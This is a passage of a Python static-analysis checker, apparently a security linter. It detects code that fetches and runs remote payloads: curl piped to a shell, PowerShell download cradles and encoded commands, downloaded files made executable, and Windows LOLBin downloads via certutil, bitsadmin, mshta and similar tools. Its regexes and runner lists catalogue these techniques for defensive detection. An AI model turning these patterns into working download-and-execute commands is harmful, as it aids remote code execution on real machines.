        if word in keys or word.removeprefix("./") in keys:
            return True
        if not word.startswith("{") and re.split(r"[/\\]", word)[-1] in keys and "/" in word:
            return True
    return False


_PYTHON_RUNNERS = words(
    """
    runpy.run_path ctypes.CDLL ctypes.WinDLL ctypes.cdll.LoadLibrary ctypes.windll.LoadLibrary
    ctypes.PyDLL ctypes.OleDLL importlib.machinery.SourceFileLoader
    importlib.util.spec_from_file_location imp.load_source zipimport.zipimporter os.startfile
    """
)
_READERS = frozenset({"read_text", "read_bytes", "read"})
#: runners whose second argument is the file (the first is a module name)
_PATH_SECOND = frozenset(
    {
        "importlib.machinery.SourceFileLoader",
        "importlib.util.spec_from_file_location",
        "imp.load_source",
    }
)


def _run_words(ctx: Context, site: CallSite) -> tuple[list[tree_sitter.Node], list[str]]:
    """What a call runs: nodes naming a file, and words of a shell command string."""
    name = site.name
    if name in _PYTHON_RUNNERS:
        target = site.arg(1) if name in _PATH_SECOND else site.arg(0)
        return ([] if target is None else [target]), []
    if name in _EXEC_NAMES | _COMPILE_NAMES:
        code = site.arg(0)
        return ([] if code is None else _opened_paths(ctx, code)), []
    if not is_process_call(site):
        return [], []
    items = argv_items(ctx, site)
    if items is None:
        command = command_text(ctx, site)
        return [], ([] if command is None else shell_targets(command)[0])
    nodes = items[:1]
    first = items[0]
    if is_interpreter(ctx, first):
        rest = [i for i in items[1:] if not str(ctx.const(i) or "").startswith("-")]
        nodes.extend(rest[:1])
        for index, item in enumerate(items[:-1]):
            if ctx.const(item) in _SCRIPT_FLAGS:
                script = render(ctx, items[index + 1])
                return nodes, ([] if script is None else shell_targets(script)[0])
    return nodes, []


def _chmod_words(ctx: Context, site: CallSite) -> tuple[list[tree_sitter.Node], list[str]]:
    name = site.name
    if name in {"os.chmod", "os.lchmod"} or site.method == "chmod":
        function = name in {"os.chmod", "os.lchmod"}
        mode = site.arg(1, "mode") if function else site.arg(0, "mode")
        target = site.arg(0, "path") if function else site.receiver
        if mode is None or target is None or not _executable_mode(ctx, mode):
            return [], []
        return [target], []
    if not is_process_call(site):
        return [], []
    command = command_text(ctx, site)
    return [], ([] if command is None else shell_targets(command)[1])


_EXEC_BITS = re.compile(r"S_IEXEC|S_IX(?:USR|GRP|OTH)|S_IRWX[UGO]")
_INTEGER = re.compile(r"\b0[oO][0-7]+\b|\b\d+\b")


def _executable_mode(ctx: Context, mode: tree_sitter.Node) -> bool:
    text = ctx.text(mode)
    if _EXEC_BITS.search(text):
        return True
    for literal in _INTEGER.findall(text):
        value = int(literal, 8) if literal[:2] in {"0o", "0O"} else int(literal)
        if value & 0o111:
            return True
    return False


def _opened_paths(ctx: Context, code: tree_sitter.Node) -> list[tree_sitter.Node]:
    """`path` in `open(path).read()`, `Path(path).read_text()`, `p.read_text()`."""
    if code.type != "call":
        return []
    if method_of(ctx, code) in _READERS:
        receiver = ctx.call_site(code).receiver
        if receiver is None:
            return []
        if receiver.type == "call" and call_name(ctx, receiver) in _OPENERS | _PATH_TYPES:
            first = first_argument(receiver)
            return [] if first is None else [first]
        if receiver.type == "identifier":
            return [receiver]
    return []


def _downloaded_target(
    ctx: Context,
    site: CallSite,
    words: Callable[[Context, CallSite], tuple[list[tree_sitter.Node], list[str]]],
) -> Iterator[Hit]:
    scope = ctx.scope_of(site.node)
    downloads = [d for d in _downloads(ctx, scope) if d[0].end_byte <= site.node.start_byte]
    if not downloads:
        return
    nodes, shell_words = words(ctx, site)
    if not nodes and not shell_words:
        return
    node_keys: set[str] = set()
    for node in nodes:
        node_keys |= _keys(ctx, node)
    for download, keys in reversed(downloads):
        if node_keys & keys or _matches(keys, shell_words):
            yield Hit.at(
                site.node,
                related=related(ctx, download, "downloaded here"),
                sink=describe(ctx, site.node),
                line=str(line_of(ctx, download)),
            )
            return


def _downloaded_file_executed(ctx: Context, site: CallSite) -> Iterator[Hit]:
    yield from _downloaded_target(ctx, site, _run_words)


def _downloaded_file_made_executable(ctx: Context, site: CallSite) -> Iterator[Hit]:
    yield from _downloaded_target(ctx, site, _chmod_words)


# --------------------------------------------------------------------------------------
# Checks: command strings (GH205-GH209)
# --------------------------------------------------------------------------------------

_FETCHER = r"\b(?:curl|wget|fetch|lwp-download|aria2c)\b"
_PIPE_TO_INTERPRETER = re.compile(
    _FETCHER + r"[^|;&\n]*(?:\|(?!\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b)[^|;&\n]*){0,2}"
    r"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr(?:/local)?)?(?:/bin/)?"
    r"(?:(?:ba|da|z|k|c|tc|fi|a)?sh|python[0-9.]*|perl|ruby|node|php)\b"
    r"(?!\s+-m\b)(?![^|;&\n]*\.(?:py|pl|rb|js)\b)",
    re.IGNORECASE,
)
_PS_EXEC = re.compile(r"\b(?:iex|invoke-expression)\b", re.IGNORECASE)
_PS_FETCH = re.compile(
    r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b"
    r"|\.download(?:string|data)(?:async)?\b|net\.webclient|msxml2\.xmlhttp",
    re.IGNORECASE,
)
_PS_DOWNLOAD_RUN = re.compile(
    r"\.downloadfile\b.*\b(?:start-process|saps|invoke-item)\b", re.IGNORECASE | re.DOTALL
)
_PS_ENCODED = re.compile(
    r"\b(?:powershell|pwsh)(?:\.exe)?\b.*?\s[-/]e(?:c|nc\w*)?\s+[\"']?[A-Za-z0-9+/={]",
    re.IGNORECASE | re.DOTALL,
)
_SUBSTITUTION = re.compile(
    r"(?:\beval|\bsource|(?:^|[\s;&|(])\.|\b(?:ba|da|z|k)?sh(?:\s+-\w+)*|\bpython[0-9.]*\s+-c"
    r"|\bperl\s+-e|\bruby\s+-e|\bnode\s+-e|\bphp\s+-r)\s+[\"']?(?:\$\(|`|<\()\s*"
    r"(?:curl|wget)\b",
    re.IGNORECASE,
)
_URL = re.compile(r"(?:https?|ftp)://[^\s\"'|;&]+")
_LOLBINS = (
    ("certutil", re.compile(r"\bcertutil(?:\.exe)?\b[^\n]*[-/]urlcache\b", re.I)),
    ("bitsadmin", re.compile(r"\bbitsadmin(?:\.exe)?\b[^\n]*/transfer\b", re.I)),
    ("mshta", re.compile(r"\bmshta(?:\.exe)?\s+[\"']?(?:https?|javascript|vbscript):", re.I)),
    ("regsvr32", re.compile(r"\bregsvr32(?:\.exe)?\b[^\n]*/i:\s*[\"']?https?://", re.I)),
    ("msiexec", re.compile(r"\bmsiexec(?:\.exe)?\b[^\n]*\s/(?:i|package)\s*[\"']?https?://", re.I)),
    ("wmic", re.compile(r"\bwmic(?:\.exe)?\b[^\n]*/format:\s*[\"']?https?://", re.I)),
    (
        "rundll32",
        re.compile(
            r"\brundll32(?:\.exe)?\b[^\n]*(?:javascript:|url\.dll\s*,\s*(?:OpenURL|"
            r"FileProtocolHandler)|https?://)",
            re.I,
        ),
    ),
)


#: long tokens and URL credentials: messages never carry secret values
_SECRETISH = re.compile(r"(?<=://)[^/@\s]+@|[A-Za-z0-9_+/=-]{32,}")


def excerpt(text: str, start: int, end: int, limit: int = 60) -> str:
    """A short piece of a command for a message, with anything secret-looking masked."""
    fragment = _SECRETISH.sub("***", _HOLE_SPACE.sub(" ", text[start:end]).strip())
    return fragment if len(fragment) <= limit else fragment[: limit - 3] + "..."


def _curl_pipe_shell(ctx: Context, site: CallSite) -> Iterator[Hit]:
    found = command_match(ctx, site, _PIPE_TO_INTERPRETER)
    if found is not None:
        command, match = found
        yield Hit.at(site.node, excerpt=excerpt(command, match.start(), match.end()))


_FETCH_COMMAND = re.compile(r"^\s*(?:\S*/)?(?:curl|wget)(?:\.exe)?\s[^|;&\n]*://")


def _script_from_stdin(ctx: Context, arguments: list[tree_sitter.Node]) -> bool:
    """`python3 -`, `bash -s`, `sh`: no script file and no `-c`/`-m`, so stdin is the program."""
    rendered = [render(ctx, a) for a in arguments]
    return all(
        r is not None and r.startswith("-") and r not in {"-c", "-m", "-e", "-E", "-r"}
        for r in rendered
    )


def _process_pipe(ctx: Context, site: CallSite) -> Iterator[Hit]:
    """`curl = Popen(["curl", URL], stdout=PIPE); run(["python3", "-"], stdin=curl.stdout)`:
    the shell pipe rebuilt from two processes."""
    stdin = site.keywords.get("stdin")
    if stdin is None or stdin.type != "attribute" or not ctx.text(stdin).endswith(".stdout"):
        return
    producer = stdin.child_by_field_name("object")
    if producer is None or producer.type != "identifier":
        return
    bound = assigned_value(ctx, producer)
    if bound is None or bound.type != "call":
        return
    upstream = ctx.call_site(bound)
    fetch = command_text(ctx, upstream) if is_process_call(upstream) else None
    items = argv_items(ctx, site)
    if fetch is None or not _FETCH_COMMAND.match(fetch) or not items:
        return
    if not is_interpreter(ctx, items[0]) or not _script_from_stdin(ctx, items[1:]):
        return
    runner = command_text(ctx, site) or ctx.text(items[0])
    yield Hit.at(site.node, excerpt=excerpt(f"{fetch} | {runner}", 0, len(fetch) + len(runner) + 3))


def _powershell_cradle(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is None:
        return
    if (_PS_EXEC.search(command) and _PS_FETCH.search(command)) or _PS_DOWNLOAD_RUN.search(command):
        yield Hit.at(site.node)


def _powershell_encoded(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is not None and _PS_ENCODED.search(command):
        yield Hit.at(site.node)


def _shell_download_then_run(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is None:
        return
    match = _SUBSTITUTION.search(command)
    if match is not None:
        yield Hit.at(site.node, excerpt=excerpt(command, match.start(), match.end() + 40))
        return
    for fetch in re.finditer(_FETCHER, command):
        segment_end = _SEGMENT.search(command, fetch.end())
        segment = command[fetch.start() : segment_end.start() if segment_end else len(command)]
        output = _CLI_OUTPUT.search(segment)
        if output is not None and output.group(1) != "-":
            target = output.group(1)
        else:
            url = _URL.search(segment)
            if url is None or re.search(r"\s-[a-zA-Z]*[oO]\b", segment):
                continue
            target = url.group(0).rstrip("/").rsplit("/", 1)[-1]
        if not target or segment_end is None:
            continue
        runs, chmods = shell_targets(command[segment_end.end() :])
        basename = re.split(r"[/\\]", target)[-1]
        keys = {target, basename, "./" + basename}
        if _matches(keys, runs) or _matches(keys, chmods):
            yield Hit.at(site.node, excerpt=excerpt(command, fetch.start(), len(command)))
            return


def _lolbin(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is None:
        return
    for tool, pattern in _LOLBINS:
        if pattern.search(command):
            yield Hit.at(site.node, tool=tool)
            return


_RUNNERS = SHELL_CALLS | _PYTHON_RUNNERS | _EXEC_NAMES | _COMPILE_NAMES

RULES = [
    CallRule(REMOTE_CODE_EXEC, _remote_code, names=_EXEC_NAMES | _COMPILE_NAMES),
    CallRule(REMOTE_DESERIALIZATION, _remote_deserialization, names=_DESERIALIZERS),
    CallRule(REMOTE_COMMAND_EXEC, _remote_command, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(DOWNLOADED_FILE_EXECUTED, _downloaded_file_executed, names=_RUNNERS),
    CallRule(
        DOWNLOADED_FILE_MADE_EXECUTABLE,
        _downloaded_file_made_executable,
        names=SHELL_CALLS | {"os.chmod", "os.lchmod"},
        methods=frozenset({"chmod"}),
    ),
    CallRule(CURL_PIPE_SHELL, _curl_pipe_shell, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(CURL_PIPE_SHELL, _process_pipe, names=SHELL_CALLS),
    CallRule(
        POWERSHELL_DOWNLOAD_CRADLE, _powershell_cradle, names=SHELL_CALLS, methods=SHELL_METHODS
    ),
    CallRule(
        POWERSHELL_ENCODED_COMMAND, _powershell_encoded, names=SHELL_CALLS, methods=SHELL_METHODS
    ),
    CallRule(
        SHELL_DOWNLOAD_THEN_RUN,
        _shell_download_then_run,
        names=SHELL_CALLS,
        methods=SHELL_METHODS,
    ),
    CallRule(LOLBIN_DOWNLOAD, _lolbin, names=SHELL_CALLS, methods=SHELL_METHODS),
]
